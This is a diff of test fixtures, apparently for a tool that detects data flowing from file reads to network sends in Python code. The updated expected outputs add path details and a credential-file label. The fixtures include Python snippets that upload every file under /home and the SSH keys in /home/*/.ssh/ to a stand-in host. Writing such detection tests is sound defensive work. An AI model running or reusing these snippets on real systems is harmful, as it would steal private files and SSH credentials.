@@ -203,7 +203,7 @@ for r, d, fs in os.walk('/home'):
         p = os.path.join(r, f)
         requests.post('http://a.invalid', files={'f': open(p, 'rb')})`,
     [
-      'own.py:5 import flow file-content open «os.walk»/«os.walk» > network-send requests.post http://a.invalid',
+      'own.py:5 import flow file-content open /home/«os.walk»/«os.walk» > network-send requests.post http://a.invalid',
     ],
   ],
   [
@@ -211,7 +211,9 @@ for r, d, fs in os.walk('/home'):
     `import glob, requests
 for p in glob.glob('/home/*/.ssh/*'):
     requests.post('http://a.invalid', data=open(p).read())`,
-    ['own.py:3 import flow file-content open «glob.glob» > network-send requests.post http://a.invalid'],
+    [
+      'own.py:3 import flow credential-file open /home/*/.ssh/«glob.glob» > network-send requests.post http://a.invalid',
+    ],
   ],
   [
     'processes',
